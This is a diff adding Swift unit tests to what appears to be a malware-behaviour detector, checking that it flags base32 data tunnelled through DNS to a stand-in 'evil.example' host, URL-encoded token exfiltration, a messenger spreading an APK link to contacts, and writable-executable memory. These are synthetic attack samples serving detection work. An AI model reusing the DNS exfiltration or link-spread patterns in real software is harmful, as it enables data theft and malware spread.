@@ -43,6 +43,28 @@ import PetriModel
         #expect(hits { $0.dns(String(name).uppercased()) }.first?.encoding == .hex)
     }
 
+    @Test(arguments: 0..<5)
+    func base32InDNSAtEveryAlignment(_ shift: Int) throws {
+        let data = Array(repeating: UInt8(ascii: "#"), count: shift) + Array(Self.fileText.utf8)
+        let b32 = Self.base32(data)
+        let labels = stride(from: 0, to: b32.count, by: 60).map { i in
+            String(b32[b32.index(b32.startIndex, offsetBy: i)..<b32.index(b32.startIndex, offsetBy: min(i + 60, b32.count))])
+        }
+        let h = hits { $0.dns(labels.joined(separator: ".") + ".t.evil.example") }
+        #expect(h.first?.encoding == .base32)
+    }
+
+    static func base32(_ bytes: [UInt8]) -> String {
+        let alphabet = Array("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567")
+        var out = "", buffer = 0, bits = 0
+        for byte in bytes {
+            buffer = buffer << 8 | Int(byte); bits += 8
+            while bits >= 5 { out.append(alphabet[(buffer >> (bits - 5)) & 31]); bits -= 5 }
+        }
+        if bits > 0 { out.append(alphabet[(buffer << (5 - bits)) & 31]) }
+        return out
+    }
+
     @Test func urlEncodedInQuery() throws {
         let encoded = Self.token.map { "%" + String(format: "%02X", $0.asciiValue!) }.joined()
         let h = hits { $0.http("GET", "http://203.0.113.9/c?k=" + encoded) }
@@ -200,6 +222,27 @@ import PetriModel
         #expect(byID["T1041"]?["score"] as? Int == 5)
         #expect((byID["T1105"]?["comment"] as? String)?.contains("downloads-and-executes") == true)
         #expect(techniques.map { $0["techniqueID"] as! String } == techniques.map { $0["techniqueID"] as! String }.sorted())
+    }
+
+    @Test func linkSpreadOverRawSends() {
+        var t = Trace()
+        for c in ["bob", "carol", "dave", "erin", "frank"] {
+            t.sys("sendto", ["family": .string("AF_INET"), "address": .string("203.0.113.20:5222"),
+                             "preview": .string("<message to='\(c)@chat.example'><body>hey http://x.example/p.apk</body></message>")])
+        }
+        #expect(BuiltIn.matchIDs(t.report).contains("messenger-link-spread"))
+    }
+
+    @Test func wineLoaderMappingsDoNotCountAsSelfModifyingCode() {
+        var t = Trace(sampleName: "setup.exe")
+        t.sys("mmap", ["prot": .string("PROT_READ|PROT_WRITE|PROT_EXEC"), "fd": .int(5),
+                       "fd_path": .string("/usr/lib/x86_64-linux-gnu/wine/x86_64-windows/kernel32.dll")])
+        t.sys("mprotect", ["prot": .string("PROT_READ|PROT_WRITE|PROT_EXEC")], image: "wine64-preloader")
+        t.sys("mprotect", ["prot": .string("PROT_READ|PROT_EXEC")], runner: true)
+        let ids = BuiltIn.matchIDs(t.report)
+        #expect(!ids.contains("writable-executable-memory") && !ids.contains("mprotect-to-exec"))
+        t.sys("mprotect", ["prot": .string("PROT_READ|PROT_WRITE|PROT_EXEC")])
+        #expect(BuiltIn.matchIDs(t.report).contains("writable-executable-memory"))
     }
 
     @Test func evaluationScalesToLargeTraces() {
